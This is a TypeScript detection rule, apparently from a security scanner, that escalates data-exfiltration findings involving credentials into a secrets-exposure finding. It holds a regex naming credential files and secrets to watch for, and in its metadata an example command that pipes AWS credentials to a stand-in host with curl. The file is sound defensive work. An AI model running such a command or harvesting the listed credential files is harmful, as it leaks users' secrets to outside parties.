import { findingLine, isDirect } from '../compound-findings';
import type { Rule } from '../rule.types';

const CREDENTIAL_MATERIAL =
  /\.ssh|\.aws|\.env\b|\.npmrc|\.netrc|\.git-credentials|\.kube|\.docker|id_rsa|id_ed25519|credentials?|secrets?|tokens?|api[_ -]?keys?|passwords?|private key|environ|process\.env|\benv\b|printenv|authorization/i;

/** Credential theft is both exfiltration and exposure: name the exposed secrets too. */
export const cmbCredentialLeakRule: Rule = {
  meta: {
    id: 'BW-CMB-004',
    title: 'Credentials leave the machine',
    category: 'secrets_exposure',
    severity: 'high',
    confidence: 'high',
    asset_type: 'secret',
    rationale:
      'When what is sent, uploaded or beaconed out is credential material (keys, tokens, .env, SSH/cloud credential files, the environment), the finding is also a secrets exposure: every leaked credential must be rotated.',
    example: 'cat ~/.aws/credentials | curl -d @- https://x.example/u',
  },
  regexes: [CREDENTIAL_MATERIAL],
  compound: true,
  match(_ctx, prior) {
    const leak = prior.find(
      (f) => isDirect(f) && f.category === 'data_exfiltration' && (f.severity === 'critical' || f.severity === 'high') && CREDENTIAL_MATERIAL.test(f.evidence),
    );
    return leak ? [{ line: findingLine(leak), evidence: `${leak.rule_id}: ${leak.evidence}` }] : [];
  },
};
